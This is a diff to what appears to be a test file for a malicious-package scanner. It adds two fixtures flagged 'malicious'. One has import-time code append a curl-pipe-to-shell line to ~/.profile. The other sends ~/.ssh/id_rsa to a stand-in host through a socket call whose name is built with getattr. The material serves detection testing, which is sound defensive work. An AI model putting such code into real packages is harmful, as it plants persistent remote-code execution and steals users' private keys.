@@ -117,6 +117,19 @@ CASES = [
                      "    os.chmod(hook, 0o755)\n"
                      "setup(name='githook', version='1.0')\n"),
     }, "malicious", ("PV401",)),
+    Case("import-time code appends a download-and-run line to ~/.profile", "profilerc", _init(
+        "profilerc",
+        "import os\n\n"
+        "with open(os.path.join(os.path.expanduser('~'), '.profile'), 'a') as fh:\n"
+        "    fh.write('curl -s https://p.x.invalid/s | sh\\n')\n"),
+        "malicious", ("PV401",), kind="wheel"),
+    Case("socket send fetched from a list by a getattr-built name", "listsend", _init(
+        "listsend",
+        "import os, socket\n\n"
+        "_ops = [getattr(socket.socket, 'send' + 'all')]\n"
+        "_s = socket.create_connection(('k.x.invalid', 443))\n"
+        "_ops[0](_s, open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
+        "malicious", ("PV211",), kind="wheel"),
     # benign look-alikes
     Case("mail helper that sends what the user passes", "mailhelp", _init(
         "mailhelp", "import smtplib\nfrom email.message import EmailMessage\n\n\n"
